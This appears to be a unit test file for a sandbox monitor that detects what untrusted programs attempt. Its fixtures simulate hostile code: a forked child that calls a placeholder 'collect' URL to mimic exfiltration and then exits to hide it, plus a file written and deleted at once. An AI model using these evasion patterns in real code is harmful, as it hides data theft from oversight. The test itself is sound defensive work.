"""What a program tried in the sandbox, seen by the runner's server from outside the
program (``sandbox/runner/watch.py``): the network namespace's counters, the pid
namespace's task ids, inotify events of the folders every uid may write.

The program is hostile: it hides what it did (deletes its file at once, a thread or
a child that ends at once, the attempt made from a forked child that exits before
the program does). The kernel counted or queued it when it happened, so the result
says so anyway; an honest program (pandas, a figure, a file in its own folder) shows
nothing.
"""

from __future__ import annotations

from tests.unit.test_tried import tried


def test_an_honest_program_tries_nothing(sandbox):
    assert (
        tried(
            sandbox,
            """
            import pandas as pd
            import matplotlib.pyplot as plt
            df = pd.DataFrame({'a': range(100)})
            df.to_csv('mine.csv')  # its own folder
            print(df.a.sum())
            plt.plot([1, 2, 3])
            """,
        )
        == {}
    )


def test_a_network_attempt_is_seen_though_the_program_swallows_the_error(sandbox):
    seen = tried(
        sandbox,
        """
        import socket
        for address in [('198.51.100.7', 443), ('127.0.0.1', 9)]:
            try:
                socket.create_connection(address, timeout=1)
            except OSError:
                pass
        print('nothing happened')
        """,
    )
    assert set(seen) == {"network"}
    assert seen["network"].startswith("2 attempts (1 to an address outside it, 1 TCP connection opened), refused")


def test_what_a_program_hides_is_seen_anyway(sandbox):
    """A file written outside its folder and deleted at once, a thread that ends at
    once, a child that tries the network and exits before the program does."""
    seen = tried(
        sandbox,
        """
        import os, threading, urllib.request
        with open('/tmp/exfil.txt', 'w') as f:
            f.write('secret')
        os.remove('/tmp/exfil.txt')
        os.mkdir('/dev/shm/hidden')
        os.rmdir('/dev/shm/hidden')
        threading.Thread(target=lambda: None).start()
        pid = os.fork()
        if pid == 0:
            try:
                urllib.request.urlopen('http://203.0.113.9/collect', timeout=1)
            except OSError:
                pass
            os._exit(0)
        os.waitpid(pid, 0)
        print('clean')
        """,
    )
    assert set(seen) == {"network", "process", "files"}
    assert "/tmp/exfil.txt" in seen["files"] and "/dev/shm/hidden/" in seen["files"]
    assert seen["process"].startswith("2 new task ids")  # the thread and the child
